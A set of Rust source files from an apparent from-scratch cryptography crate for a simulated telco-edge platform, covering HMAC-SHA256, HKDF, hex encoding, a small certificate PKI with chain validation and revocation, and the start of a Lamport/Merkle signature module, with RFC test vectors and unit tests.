            gcm.open_reference(&n, &sealed, &v.aad).is_err(),
            "{} (reference)",
            v.name
        );
    }
}
