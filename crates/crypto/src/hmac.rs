//! HMAC-SHA256 keyed message authentication (RFC 2104), validated against the
//! RFC 4231 test vectors.

use crate::sha256::{Sha256, BLOCK_LEN, DIGEST_LEN};

/// Output length of HMAC-SHA256 in bytes.
pub const MAC_LEN: usize = DIGEST_LEN;

/// Incremental HMAC-SHA256 computation.
///
/// # Example
///
/// ```
/// use genio_crypto::hmac::HmacSha256;
///
/// let mut mac = HmacSha256::new(b"shared-secret");
/// mac.update(b"frame payload");
/// let tag = mac.finalize();
/// assert!(HmacSha256::verify(b"shared-secret", b"frame payload", &tag));
/// ```
#[derive(Debug, Clone)]
pub struct HmacSha256 {
    inner: Sha256,
    opad_key: [u8; BLOCK_LEN],
}

impl HmacSha256 {
    /// Creates an HMAC context keyed with `key` (any length; keys longer than
    /// one block are hashed first, per RFC 2104).
    pub fn new(key: &[u8]) -> Self {
        let mut k = [0u8; BLOCK_LEN];
        if key.len() > BLOCK_LEN {
            let d = crate::sha256::sha256(key);
            k[..DIGEST_LEN].copy_from_slice(&d);
        } else {
            k[..key.len()].copy_from_slice(key);
        }
        let mut ipad = [0u8; BLOCK_LEN];
        let mut opad = [0u8; BLOCK_LEN];
        for i in 0..BLOCK_LEN {
            ipad[i] = k[i] ^ 0x36;
            opad[i] = k[i] ^ 0x5c;
        }
        let mut inner = Sha256::new();
        inner.update(&ipad);
        HmacSha256 {
            inner,
            opad_key: opad,
        }
    }

    /// Absorbs message data.
    pub fn update(&mut self, data: &[u8]) {
        self.inner.update(data);
    }

    /// Consumes the context and returns the 32-byte tag.
    pub fn finalize(self) -> [u8; MAC_LEN] {
        let inner_digest = self.inner.finalize();
        let mut outer = Sha256::new();
        outer.update(&self.opad_key);
        outer.update(&inner_digest);
        outer.finalize()
    }

    /// One-shot HMAC of `data` under `key`.
    pub fn mac(key: &[u8], data: &[u8]) -> [u8; MAC_LEN] {
        let mut h = Self::new(key);
        h.update(data);
        h.finalize()
    }

    /// Verifies `tag` against the HMAC of `data` under `key` in constant
    /// time.
    #[must_use]
    pub fn verify(key: &[u8], data: &[u8], tag: &[u8]) -> bool {
        crate::ct::eq(&Self::mac(key, data), tag)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;

    // RFC 4231 test cases for HMAC-SHA-256.
    #[test]
    fn rfc4231_case_1() {
        let key = [0x0bu8; 20];
        let tag = HmacSha256::mac(&key, b"Hi There");
        assert_eq!(
            hex::encode(&tag),
            "b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7"
        );
    }

    #[test]
    fn rfc4231_case_2() {
        let tag = HmacSha256::mac(b"Jefe", b"what do ya want for nothing?");
        assert_eq!(
            hex::encode(&tag),
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
    }

    #[test]
    fn rfc4231_case_3() {
        let key = [0xaau8; 20];
        let data = [0xddu8; 50];
        let tag = HmacSha256::mac(&key, &data);
        assert_eq!(
            hex::encode(&tag),
            "773ea91e36800e46854db8ebd09181a72959098b3ef8c122d9635514ced565fe"
        );
    }

    #[test]
    fn rfc4231_case_6_long_key() {
        let key = [0xaau8; 131];
        let tag = HmacSha256::mac(
            &key,
            b"Test Using Larger Than Block-Size Key - Hash Key First",
        );
        assert_eq!(
            hex::encode(&tag),
            "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54"
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let key = b"k";
        let mut h = HmacSha256::new(key);
        h.update(b"part one ");
        h.update(b"part two");
        assert_eq!(h.finalize(), HmacSha256::mac(key, b"part one part two"));
    }

    #[test]
    fn verify_rejects_tampering() {
        let tag = HmacSha256::mac(b"key", b"data");
        assert!(HmacSha256::verify(b"key", b"data", &tag));
        assert!(!HmacSha256::verify(b"key", b"datb", &tag));
        assert!(!HmacSha256::verify(b"kez", b"data", &tag));
        let mut bad = tag;
        bad[0] ^= 1;
        assert!(!HmacSha256::verify(b"key", b"data", &bad));
    }
}
