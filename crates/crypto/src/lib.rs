//! # genio-crypto
//!
//! From-scratch cryptographic primitives used by every security mitigation in
//! the GENIO telco-edge platform reproduction.
//!
//! The paper's mitigations lean on OpenSSL, kernel crypto, GPG and TPM
//! firmware. This crate substitutes those with self-contained, dependency-free
//! implementations so the whole platform can be simulated and benchmarked as a
//! pure-Rust workspace:
//!
//! * [`sha256`] — SHA-256 (FIPS 180-4), validated against the official
//!   short-message test vectors.
//! * [`hmac`] — HMAC-SHA256 (RFC 2104), validated against RFC 4231.
//! * [`hkdf`] — HKDF extract-and-expand (RFC 5869), validated against the RFC
//!   test vectors.
//! * [`aes`] — AES-128/192/256 block cipher (FIPS 197), validated against the
//!   FIPS 197 appendix vectors.
//! * [`gcm`] — AES-GCM authenticated encryption (NIST SP 800-38D), validated
//!   against the McGrew–Viega test cases and a committed NIST/RFC vector
//!   corpus. Table-driven fast path with batched `seal_many`/`open_many`,
//!   plus `_reference` oracle twins selectable via
//!   `GENIO_CRYPTO_BACKEND=reference`.
//! * [`ghash`] — GHASH over GF(2^128): bitwise reference multiply and the
//!   per-key 8-bit windowed tables the fast path uses.
//! * [`dh`] — Diffie–Hellman over the Mersenne prime 2^127 − 1.
//!   **Simulation-grade**: the group is far too small for real-world use
//!   (~2^60 security) but exercises the exact same protocol logic (TLS-like
//!   handshakes, MACsec key agreement) as a production group would.
//! * [`sig`] — hash-based signatures: Lamport one-time signatures composed
//!   into a Merkle many-time scheme, as the stand-in for the X.509/GPG RSA and
//!   ECDSA signatures used by Secure Boot, APT, and ONIE in the paper.
//! * [`pki`] — certificates, chains, and revocation built on [`sig`].
//! * [`drbg`] — HMAC-DRBG (NIST SP 800-90A) deterministic random bit
//!   generator, used wherever the simulation needs reproducible randomness.
//! * [`ct`] — constant-time comparison helpers.
//! * [`hex`] — hex encoding/decoding used by fingerprints and test vectors.
//!
//! # Example
//!
//! ```
//! use genio_crypto::gcm::AesGcm;
//!
//! # fn main() -> Result<(), genio_crypto::CryptoError> {
//! let key = [0x42u8; 16];
//! let gcm = AesGcm::new(&key)?;
//! let nonce = [7u8; 12];
//! let ct = gcm.seal(&nonce, b"OLT telemetry frame", b"header");
//! let pt = gcm.open(&nonce, &ct, b"header")?;
//! assert_eq!(pt, b"OLT telemetry frame");
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod aes;
pub mod ct;
pub mod dh;
pub mod drbg;
pub mod gcm;
pub mod ghash;
pub mod hex;
pub mod hkdf;
pub mod hmac;
pub mod pki;
pub mod sha256;
pub mod sig;

mod error;

pub use error::{CertError, CryptoError};

/// Convenience alias for fallible crypto operations.
pub type Result<T> = std::result::Result<T, CryptoError>;
