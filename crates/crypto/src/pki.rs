//! A miniature X.509-like public key infrastructure built on the hash-based
//! signatures in [`crate::sig`].
//!
//! GENIO's mitigation **M4** (authentication of nodes) validates device
//! identities with certificates before ONUs and OLTs are provisioned, and
//! **M9** (signed updates) validates ONIE images against X.509 certificates.
//! This module provides the pieces those mitigations exercise: certificates
//! with validity windows and key-usage constraints, issuing CAs, chain
//! validation against trust anchors, and revocation lists.

use std::collections::HashSet;

use crate::error::CertError;
use crate::sig::{MerklePublicKey, MerkleSignature, MerkleSigner};
use crate::CryptoError;

/// What a certified key is allowed to do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum KeyUsage {
    /// May sign other certificates (a CA key).
    CertSign,
    /// May sign code/images (firmware, packages, container images).
    CodeSign,
    /// May authenticate as a server/infrastructure node (OLT side).
    ServerAuth,
    /// May authenticate as a client/subscriber node (ONU side).
    ClientAuth,
}

/// The to-be-signed portion of a certificate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TbsCertificate {
    /// Distinguished name of the key holder, e.g. `"onu-1542"`.
    pub subject: String,
    /// Distinguished name of the issuing authority.
    pub issuer: String,
    /// Serial number, unique per issuer.
    pub serial: u64,
    /// Subject public key (Merkle root).
    pub public_key: MerklePublicKey,
    /// Validity start (seconds since simulation epoch).
    pub not_before: u64,
    /// Validity end (seconds since simulation epoch).
    pub not_after: u64,
    /// Granted usages.
    pub usages: Vec<KeyUsage>,
}

impl TbsCertificate {
    /// Canonical byte encoding signed by the issuer.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::new();
        push_str(&mut out, &self.subject);
        push_str(&mut out, &self.issuer);
        out.extend_from_slice(&self.serial.to_be_bytes());
        out.extend_from_slice(&self.public_key);
        out.extend_from_slice(&self.not_before.to_be_bytes());
        out.extend_from_slice(&self.not_after.to_be_bytes());
        out.push(self.usages.len() as u8);
        for u in &self.usages {
            out.push(match u {
                KeyUsage::CertSign => 0,
                KeyUsage::CodeSign => 1,
                KeyUsage::ServerAuth => 2,
                KeyUsage::ClientAuth => 3,
            });
        }
        out
    }
}

fn push_str(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(&(s.len() as u32).to_be_bytes());
    out.extend_from_slice(s.as_bytes());
}

/// A signed certificate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Certificate {
    /// The signed fields.
    pub tbs: TbsCertificate,
    /// Issuer signature over [`TbsCertificate::encode`].
    pub signature: MerkleSignature,
}

impl Certificate {
    /// True if this certificate grants `usage`.
    pub fn allows(&self, usage: KeyUsage) -> bool {
        self.tbs.usages.contains(&usage)
    }

    /// Verifies the signature under the issuer public key (no time or
    /// revocation checks — see [`validate_chain`] for full validation).
    #[must_use]
    pub fn verify_signature(&self, issuer_key: &MerklePublicKey) -> bool {
        self.signature.verify(&self.tbs.encode(), issuer_key)
    }
}

/// A certificate authority: a Merkle signing key plus its own certificate
/// (self-signed for roots, issuer-signed for intermediates).
#[derive(Debug)]
pub struct CertificateAuthority {
    signer: MerkleSigner,
    cert: Certificate,
    next_serial: u64,
}

impl CertificateAuthority {
    /// Creates a self-signed root CA.
    ///
    /// `capacity_log2` bounds how many certificates this CA can ever issue
    /// (`2^capacity_log2`, minus one signature spent on the self-signature).
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::KeyExhausted`] only if `capacity_log2 == 0`.
    pub fn self_signed(
        name: &str,
        seed: &[u8],
        validity: (u64, u64),
        capacity_log2: u32,
    ) -> crate::Result<Self> {
        let mut signer = MerkleSigner::from_seed(seed, capacity_log2);
        let tbs = TbsCertificate {
            subject: name.to_string(),
            issuer: name.to_string(),
            serial: 0,
            public_key: signer.public(),
            not_before: validity.0,
            not_after: validity.1,
            usages: vec![KeyUsage::CertSign],
        };
        let signature = signer.sign(&tbs.encode())?;
        let cert = Certificate { tbs, signature };
        Ok(CertificateAuthority {
            signer,
            cert,
            next_serial: 1,
        })
    }

    /// This CA's own certificate.
    pub fn certificate(&self) -> &Certificate {
        &self.cert
    }

    /// The CA public key.
    pub fn public(&self) -> MerklePublicKey {
        self.cert.tbs.public_key
    }

    /// Issues a certificate for `subject_key`.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::KeyExhausted`] when the CA's one-time leaves
    /// are spent.
    pub fn issue(
        &mut self,
        subject: &str,
        subject_key: MerklePublicKey,
        validity: (u64, u64),
        usages: Vec<KeyUsage>,
    ) -> crate::Result<Certificate> {
        let tbs = TbsCertificate {
            subject: subject.to_string(),
            issuer: self.cert.tbs.subject.clone(),
            serial: self.next_serial,
            public_key: subject_key,
            not_before: validity.0,
            not_after: validity.1,
            usages,
        };
        self.next_serial += 1;
        let signature = self.signer.sign(&tbs.encode())?;
        Ok(Certificate { tbs, signature })
    }

    /// Creates an intermediate CA certified by `self`.
    ///
    /// # Errors
    ///
    /// Propagates [`CryptoError::KeyExhausted`] from either signer.
    pub fn issue_intermediate(
        &mut self,
        name: &str,
        seed: &[u8],
        validity: (u64, u64),
        capacity_log2: u32,
    ) -> crate::Result<CertificateAuthority> {
        let signer = MerkleSigner::from_seed(seed, capacity_log2);
        let cert = self.issue(name, signer.public(), validity, vec![KeyUsage::CertSign])?;
        Ok(CertificateAuthority {
            signer,
            cert,
            next_serial: 1,
        })
    }

    /// Signatures still available on this CA key.
    pub fn remaining(&self) -> u64 {
        self.signer.remaining()
    }
}

/// A certificate revocation list: revoked `(issuer, serial)` pairs.
#[derive(Debug, Clone, Default)]
pub struct RevocationList {
    revoked: HashSet<(String, u64)>,
}

impl RevocationList {
    /// Creates an empty CRL.
    pub fn new() -> Self {
        Self::default()
    }

    /// Marks `serial` issued by `issuer` as revoked.
    pub fn revoke(&mut self, issuer: &str, serial: u64) {
        self.revoked.insert((issuer.to_string(), serial));
    }

    /// True if the certificate appears on the list.
    pub fn is_revoked(&self, cert: &Certificate) -> bool {
        self.revoked
            .contains(&(cert.tbs.issuer.clone(), cert.tbs.serial))
    }

    /// Number of entries on the list.
    pub fn len(&self) -> usize {
        self.revoked.len()
    }

    /// True if no certificate has been revoked.
    pub fn is_empty(&self) -> bool {
        self.revoked.is_empty()
    }
}

/// Maximum accepted chain length (leaf + intermediates + root).
pub const MAX_CHAIN_LEN: usize = 8;

/// Validates a certificate chain ordered leaf-first.
///
/// Checks, in order: chain shape, signatures (each element signed by its
/// parent; the last element self-signed and present in `trust_anchors`),
/// validity windows at time `now`, CA key usage on non-leaf elements, and
/// revocation.
///
/// # Errors
///
/// Returns [`CryptoError::CertificateInvalid`] with the specific
/// [`CertError`] reason.
pub fn validate_chain(
    chain: &[Certificate],
    trust_anchors: &[MerklePublicKey],
    crl: &RevocationList,
    now: u64,
) -> crate::Result<()> {
    if chain.is_empty() {
        return Err(CryptoError::CertificateInvalid(CertError::EmptyChain));
    }
    if chain.len() > MAX_CHAIN_LEN {
        return Err(CryptoError::CertificateInvalid(CertError::ChainTooLong));
    }
    for (i, cert) in chain.iter().enumerate() {
        if now < cert.tbs.not_before {
            return Err(CryptoError::CertificateInvalid(CertError::NotYetValid));
        }
        if now > cert.tbs.not_after {
            return Err(CryptoError::CertificateInvalid(CertError::Expired));
        }
        if crl.is_revoked(cert) {
            return Err(CryptoError::CertificateInvalid(CertError::Revoked));
        }
        if let Some(parent) = chain.get(i + 1) {
            if cert.tbs.issuer != parent.tbs.subject {
                return Err(CryptoError::CertificateInvalid(CertError::IssuerMismatch));
            }
            if !parent.allows(KeyUsage::CertSign) {
                return Err(CryptoError::CertificateInvalid(
                    CertError::KeyUsageViolation,
                ));
            }
            if !cert.verify_signature(&parent.tbs.public_key) {
                return Err(CryptoError::CertificateInvalid(CertError::BadSignature));
            }
        } else {
            // Root: self-signed and anchored.
            if !cert.verify_signature(&cert.tbs.public_key) {
                return Err(CryptoError::CertificateInvalid(CertError::BadSignature));
            }
            if !trust_anchors.contains(&cert.tbs.public_key) {
                return Err(CryptoError::CertificateInvalid(CertError::UntrustedRoot));
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn root() -> CertificateAuthority {
        CertificateAuthority::self_signed("genio-root", b"root-seed", (0, 10_000), 4).unwrap()
    }

    #[test]
    fn self_signed_root_validates() {
        let ca = root();
        let chain = vec![ca.certificate().clone()];
        validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100).unwrap();
    }

    #[test]
    fn leaf_chain_validates() {
        let mut ca = root();
        let mut leaf_signer = MerkleSigner::from_seed(b"onu-key", 2);
        let leaf = ca
            .issue(
                "onu-7",
                leaf_signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let chain = vec![leaf.clone(), ca.certificate().clone()];
        validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100).unwrap();
        // And the leaf key actually signs things verifiable via the chain.
        let sig = leaf_signer.sign(b"onboarding hello").unwrap();
        assert!(sig.verify(b"onboarding hello", &leaf.tbs.public_key));
    }

    #[test]
    fn three_level_chain_validates() {
        let mut ca = root();
        let mut inter = ca
            .issue_intermediate("genio-edge-ca", b"edge-seed", (0, 8_000), 3)
            .unwrap();
        let leaf_signer = MerkleSigner::from_seed(b"olt-key", 1);
        let leaf = inter
            .issue(
                "olt-2",
                leaf_signer.public(),
                (0, 5_000),
                vec![KeyUsage::ServerAuth],
            )
            .unwrap();
        let chain = vec![leaf, inter.certificate().clone(), ca.certificate().clone()];
        validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100).unwrap();
    }

    #[test]
    fn expired_rejected() {
        let ca = root();
        let chain = vec![ca.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &RevocationList::new(), 20_000);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::Expired))
        );
    }

    #[test]
    fn not_yet_valid_rejected() {
        let mut ca = root();
        let signer = MerkleSigner::from_seed(b"k", 1);
        let leaf = ca
            .issue(
                "late",
                signer.public(),
                (500, 900),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let chain = vec![leaf, ca.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::NotYetValid))
        );
    }

    #[test]
    fn revoked_rejected() {
        let mut ca = root();
        let signer = MerkleSigner::from_seed(b"k", 1);
        let leaf = ca
            .issue(
                "onu-9",
                signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let mut crl = RevocationList::new();
        crl.revoke("genio-root", leaf.tbs.serial);
        let chain = vec![leaf, ca.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &crl, 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::Revoked))
        );
    }

    #[test]
    fn untrusted_root_rejected() {
        let ca = root();
        let rogue =
            CertificateAuthority::self_signed("rogue", b"rogue-seed", (0, 10_000), 2).unwrap();
        let chain = vec![rogue.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::UntrustedRoot))
        );
    }

    #[test]
    fn issuer_mismatch_rejected() {
        let mut ca = root();
        let other =
            CertificateAuthority::self_signed("other-root", b"other", (0, 10_000), 2).unwrap();
        let signer = MerkleSigner::from_seed(b"k", 1);
        let leaf = ca
            .issue(
                "onu-1",
                signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let chain = vec![leaf, other.certificate().clone()];
        let err = validate_chain(&chain, &[other.public()], &RevocationList::new(), 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::IssuerMismatch))
        );
    }

    #[test]
    fn leaf_cannot_sign_certificates() {
        let mut ca = root();
        // Issue a leaf *without* CertSign, then try to use it as a parent.
        let mut leaf_ca_signer = MerkleSigner::from_seed(b"leaf-ca", 2);
        let leaf_ca_cert = ca
            .issue(
                "not-a-ca",
                leaf_ca_signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        let child_signer = MerkleSigner::from_seed(b"child", 1);
        let child_tbs = TbsCertificate {
            subject: "child".into(),
            issuer: "not-a-ca".into(),
            serial: 1,
            public_key: child_signer.public(),
            not_before: 0,
            not_after: 5_000,
            usages: vec![KeyUsage::ClientAuth],
        };
        let sig = leaf_ca_signer.sign(&child_tbs.encode()).unwrap();
        let child = Certificate {
            tbs: child_tbs,
            signature: sig,
        };
        let chain = vec![child, leaf_ca_cert, ca.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(
                CertError::KeyUsageViolation
            ))
        );
    }

    #[test]
    fn tampered_subject_rejected() {
        let mut ca = root();
        let signer = MerkleSigner::from_seed(b"k", 1);
        let mut leaf = ca
            .issue(
                "onu-1",
                signer.public(),
                (0, 5_000),
                vec![KeyUsage::ClientAuth],
            )
            .unwrap();
        leaf.tbs.subject = "onu-666".into();
        let chain = vec![leaf, ca.certificate().clone()];
        let err = validate_chain(&chain, &[ca.public()], &RevocationList::new(), 100);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::BadSignature))
        );
    }

    #[test]
    fn empty_chain_rejected() {
        let err = validate_chain(&[], &[], &RevocationList::new(), 0);
        assert_eq!(
            err,
            Err(CryptoError::CertificateInvalid(CertError::EmptyChain))
        );
    }

    #[test]
    fn ca_exhaustion_reported() {
        // capacity 2^1 = 2 leaves; one spent on self-signature.
        let mut ca =
            CertificateAuthority::self_signed("tiny", b"tiny-seed", (0, 1_000), 1).unwrap();
        assert_eq!(ca.remaining(), 1);
        let signer = MerkleSigner::from_seed(b"k", 1);
        ca.issue("a", signer.public(), (0, 100), vec![KeyUsage::ClientAuth])
            .unwrap();
        let err = ca.issue("b", signer.public(), (0, 100), vec![KeyUsage::ClientAuth]);
        assert_eq!(err.unwrap_err(), CryptoError::KeyExhausted);
    }
}
