//! HKDF extract-and-expand key derivation (RFC 5869) over HMAC-SHA256.
//!
//! Used by the TLS-1.3-like handshake in `genio-netsec` to derive traffic
//! keys, and by MACsec key rotation.

use crate::hmac::{HmacSha256, MAC_LEN};

/// Performs the HKDF-Extract step: `PRK = HMAC(salt, ikm)`.
///
/// An empty `salt` is treated as a string of zeros, per the RFC.
pub fn extract(salt: &[u8], ikm: &[u8]) -> [u8; MAC_LEN] {
    let zeros = [0u8; MAC_LEN];
    let salt = if salt.is_empty() { &zeros[..] } else { salt };
    HmacSha256::mac(salt, ikm)
}

/// Performs the HKDF-Expand step, producing `out.len()` bytes of keying
/// material from `prk` and `info`.
///
/// # Panics
///
/// Panics if `out.len() > 255 * 32` (the RFC 5869 maximum).
pub fn expand(prk: &[u8], info: &[u8], out: &mut [u8]) {
    assert!(out.len() <= 255 * MAC_LEN, "hkdf expand output too long");
    let mut t: Vec<u8> = Vec::new();
    let mut counter = 1u8;
    for chunk in out.chunks_mut(MAC_LEN) {
        let mut mac = HmacSha256::new(prk);
        mac.update(&t);
        mac.update(info);
        mac.update(&[counter]);
        let block = mac.finalize();
        for (dst, src) in chunk.iter_mut().zip(block.iter()) {
            *dst = *src;
        }
        t = block.to_vec();
        counter = counter.wrapping_add(1);
    }
}

/// One-shot HKDF: extract then expand into a fresh vector of `len` bytes.
///
/// # Example
///
/// ```
/// let okm = genio_crypto::hkdf::derive(b"salt", b"input key material", b"tls13 key", 16);
/// assert_eq!(okm.len(), 16);
/// ```
pub fn derive(salt: &[u8], ikm: &[u8], info: &[u8], len: usize) -> Vec<u8> {
    let prk = extract(salt, ikm);
    let mut out = vec![0u8; len];
    expand(&prk, info, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;

    // RFC 5869 Test Case 1 (SHA-256).
    #[test]
    fn rfc5869_case_1() {
        let ikm = [0x0bu8; 22];
        let salt = hex::decode("000102030405060708090a0b0c").unwrap();
        let info = hex::decode("f0f1f2f3f4f5f6f7f8f9").unwrap();
        let prk = extract(&salt, &ikm);
        assert_eq!(
            hex::encode(&prk),
            "077709362c2e32df0ddc3f0dc47bba6390b6c73bb50f9c3122ec844ad7c2b3e5"
        );
        let mut okm = vec![0u8; 42];
        expand(&prk, &info, &mut okm);
        assert_eq!(
            hex::encode(&okm),
            "3cb25f25faacd57a90434f64d0362f2a2d2d0a90cf1a5a4c5db02d56ecc4c5bf34007208d5b887185865"
        );
    }

    // RFC 5869 Test Case 3: zero-length salt and info.
    #[test]
    fn rfc5869_case_3() {
        let ikm = [0x0bu8; 22];
        let okm = derive(b"", &ikm, b"", 42);
        assert_eq!(
            hex::encode(&okm),
            "8da4e775a563c18f715f802a063c5a31b8a11f5c5ee1879ec3454e5f3c738d2d9d201395faa4b61a96c8"
        );
    }

    #[test]
    fn expand_is_prefix_consistent() {
        // Expanding to a longer length must agree on the shared prefix.
        let prk = extract(b"s", b"ikm");
        let mut short = vec![0u8; 17];
        let mut long = vec![0u8; 100];
        expand(&prk, b"info", &mut short);
        expand(&prk, b"info", &mut long);
        assert_eq!(short, long[..17]);
    }

    #[test]
    #[should_panic(expected = "output too long")]
    fn expand_rejects_oversized_output() {
        let prk = [0u8; 32];
        let mut out = vec![0u8; 255 * 32 + 1];
        expand(&prk, b"", &mut out);
    }
}
