//! Hexadecimal encoding/decoding for digests, fingerprints and test vectors.

use crate::CryptoError;

const ALPHABET: &[u8; 16] = b"0123456789abcdef";

/// Encodes `data` as a lowercase hex string.
///
/// # Example
///
/// ```
/// assert_eq!(genio_crypto::hex::encode(&[0xde, 0xad]), "dead");
/// ```
pub fn encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len() * 2);
    for &b in data {
        out.push(ALPHABET[(b >> 4) as usize] as char);
        out.push(ALPHABET[(b & 0x0f) as usize] as char);
    }
    out
}

/// Decodes a hex string (upper- or lowercase) into bytes.
///
/// # Errors
///
/// Returns [`CryptoError::InvalidHex`] if the input has odd length or
/// contains a non-hex character.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// assert_eq!(genio_crypto::hex::decode("DEad")?, vec![0xde, 0xad]);
/// # Ok(())
/// # }
/// ```
pub fn decode(s: &str) -> crate::Result<Vec<u8>> {
    let bytes = s.as_bytes();
    if !bytes.len().is_multiple_of(2) {
        return Err(CryptoError::InvalidHex);
    }
    let mut out = Vec::with_capacity(bytes.len() / 2);
    for pair in bytes.chunks_exact(2) {
        let hi = val(pair[0])?;
        let lo = val(pair[1])?;
        out.push((hi << 4) | lo);
    }
    Ok(out)
}

fn val(c: u8) -> crate::Result<u8> {
    match c {
        b'0'..=b'9' => Ok(c - b'0'),
        b'a'..=b'f' => Ok(c - b'a' + 10),
        b'A'..=b'F' => Ok(c - b'A' + 10),
        _ => Err(CryptoError::InvalidHex),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let data: Vec<u8> = (0u8..=255).collect();
        assert_eq!(decode(&encode(&data)).unwrap(), data);
    }

    #[test]
    fn rejects_odd_length() {
        assert_eq!(decode("abc"), Err(CryptoError::InvalidHex));
    }

    #[test]
    fn rejects_non_hex() {
        assert_eq!(decode("zz"), Err(CryptoError::InvalidHex));
        assert_eq!(decode("0g"), Err(CryptoError::InvalidHex));
    }

    #[test]
    fn accepts_mixed_case() {
        assert_eq!(decode("AbCd").unwrap(), vec![0xab, 0xcd]);
    }

    #[test]
    fn empty_is_empty() {
        assert_eq!(encode(&[]), "");
        assert_eq!(decode("").unwrap(), Vec::<u8>::new());
    }
}
