//! Hash-based digital signatures: Lamport one-time signatures composed into
//! a Merkle many-time scheme.
//!
//! The paper's platform verifies RSA/ECDSA signatures everywhere — Shim and
//! GRUB images at boot, APT repository metadata, ONIE firmware images, and
//! GENIO's own binaries. Porting big-integer RSA is out of scope for the
//! simulation, so we substitute a *hash-based* scheme whose security rests
//! only on SHA-256 (which we already carry). The verification workflow —
//! public key, detached signature, certificate binding — is identical.
//!
//! * [`LamportKeyPair`] — a one-time signature key (16 KiB private, 32-byte
//!   compact public key).
//! * [`MerkleSigner`] — `2^h` Lamport leaves under one Merkle root, good for
//!   `2^h` signatures under a single 32-byte public key.

use crate::drbg::HmacDrbg;
use crate::hmac::HmacSha256;
use crate::sha256::{sha256, sha256_pair, Digest};
use crate::CryptoError;

/// Number of message bits signed (SHA-256 output).
const BITS: usize = 256;

/// A Lamport one-time key pair.
///
/// The private key is 256 pairs of 32-byte preimages; the compact public key
/// is the SHA-256 digest of the 512 preimage hashes.
#[derive(Debug, Clone)]
pub struct LamportKeyPair {
    // preimages[i][b] signs bit i having value b.
    preimages: Vec<[[u8; 32]; 2]>,
    hashes: Vec<[[u8; 32]; 2]>,
    public: Digest,
    used: bool,
}

/// A Lamport signature: for each message bit, the revealed preimage plus the
/// hash of the complementary preimage (needed to recompute the compact
/// public key).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LamportSignature {
    revealed: Vec<[u8; 32]>,
    complements: Vec<[u8; 32]>,
}

impl LamportKeyPair {
    /// Derives a key pair deterministically from `seed`.
    pub fn from_seed(seed: &[u8]) -> Self {
        let mut rng = HmacDrbg::new(seed);
        let mut preimages = Vec::with_capacity(BITS);
        let mut hashes = Vec::with_capacity(BITS);
        for _ in 0..BITS {
            let p0 = rng.array32();
            let p1 = rng.array32();
            preimages.push([p0, p1]);
            hashes.push([sha256(&p0), sha256(&p1)]);
        }
        let public = compact_public(&hashes);
        LamportKeyPair {
            preimages,
            hashes,
            public,
            used: false,
        }
    }

    /// The 32-byte compact public key.
    pub fn public(&self) -> Digest {
        self.public
    }

    /// Signs `message` (hashed internally with SHA-256).
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::KeyExhausted`] on a second signing attempt:
    /// revealing two signatures under one Lamport key leaks enough preimages
    /// to forge, so the API enforces one-time use.
    pub fn sign(&mut self, message: &[u8]) -> crate::Result<LamportSignature> {
        if self.used {
            return Err(CryptoError::KeyExhausted);
        }
        self.used = true;
        let digest = sha256(message);
        let mut revealed = Vec::with_capacity(BITS);
        let mut complements = Vec::with_capacity(BITS);
        for i in 0..BITS {
            let bit = bit_at(&digest, i);
            revealed.push(self.preimages[i][bit]);
            complements.push(self.hashes[i][1 - bit]);
        }
        Ok(LamportSignature {
            revealed,
            complements,
        })
    }
}

impl LamportSignature {
    /// Recomputes the compact public key this signature corresponds to for
    /// `message`. Comparing the result against a trusted public key verifies
    /// the signature.
    pub fn recover_public(&self, message: &[u8]) -> Digest {
        let digest = sha256(message);
        let mut hashes: Vec<[[u8; 32]; 2]> = Vec::with_capacity(BITS);
        for i in 0..BITS {
            let bit = bit_at(&digest, i);
            let revealed_hash = sha256(&self.revealed[i]);
            let mut pair = [[0u8; 32]; 2];
            pair[bit] = revealed_hash;
            pair[1 - bit] = self.complements[i];
            hashes.push(pair);
